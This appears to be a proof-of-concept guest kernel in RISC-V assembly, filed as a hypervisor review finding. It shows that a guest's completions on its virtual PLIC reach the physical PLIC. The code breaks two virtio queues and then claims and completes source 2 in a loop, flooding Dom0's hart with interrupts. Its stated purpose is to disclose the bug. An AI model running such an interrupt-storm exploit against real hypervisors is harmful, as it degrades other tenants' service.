/* Review finding: a guest's completion on its virtual PLIC completes the same source on
   the physical PLIC. VirtualPLIC.write calls completePhysical(source:) for every domain,
   not only for Dom0 (the direct-I/O domain, whose virtual sources 1..8 are the physical
   virtio slots). A guest with disks owns virtual sources 1..n; this one breaks its two
   queues (an unaligned descriptor table) so that each disk's line stays high with a
   configuration interrupt, then claims and completes source 2 in a loop (priority 2 over
   source 1). Whenever Dom0 holds physical source 2 (its second drive: claimed by the
   firmware for Dom0 and not yet completed by Dom0), the completion reopens the physical
   gateway behind Dom0's back; the device's line is still high, so the PLIC interrupts
   Dom0's hart again. Prints 'C' once its loop runs.
   Measured (2 harts; this guest with p1.img/p2.img, then disk-hog.elf reading a 128 MiB
   image from the same archive, Dom0's vdb): machine external interrupts on hart 0 go from
   4096 (the same guest without the loop) to 70146. Config:
     name = 'pc'  kernel = 'plic-complete.elf'  memory = 4
     disk = [ 'p1.img,vda,r', 'p2.img,vdb,r' ] */
#include "virtio.inc"
  .equ SLOT,   0x10001000
  .equ PLIC,   0x0C000000
  .section .text.init, "ax", @progbits
  .globl _start
_start:
  li s1, 0
1:
  li s0, SLOT
  slli t0, s1, 12
  add s0, s0, t0
  VIRTIO_NEGOTIATE
  li t1, 8
  sw t1, 0x38(s0)
  li t1, 0x80100008    /* not 16-byte aligned: the queue is broken at the first pop */
  sw t1, 0x80(s0)
  li t1, 0x80101000
  sw t1, 0x90(s0)
  li t1, 0x80102000
  sw t1, 0xA0(s0)
  li t1, 1
  sw t1, 0x44(s0)
  li t1, 0xF
  sw t1, 0x70(s0)
  sw zero, 0x50(s0)    /* notify: Dom0's diskPop finds it broken, the line goes high */
  addi s1, s1, 1
  li t0, 2
  blt s1, t0, 1b
  /* Sources 1 and 2: priorities 1 and 2, enabled on context 1 (vCPU 0, S-mode), threshold 0. */
  li s2, PLIC
  li t1, 1
  sw t1, 4(s2)
  li t1, 2             /* source 2 (Dom0's second drive) above source 1: claims return 2 */
  sw t1, 8(s2)
  li t0, 0x2080
  add t0, t0, s2
  li t1, 0x6
  sw t1, 0(t0)
  li s3, 0x201000
  add s3, s3, s2
  sw zero, 0(s3)
  li a7, 1
  li a0, 'C'
  ecall
  li a0, 10
  ecall
loop:                  /* claim and complete, for ever: each completion also reaches the physical PLIC */
  lw t0, 4(s3)
  beqz t0, loop
  sw t0, 4(s3)
  j loop
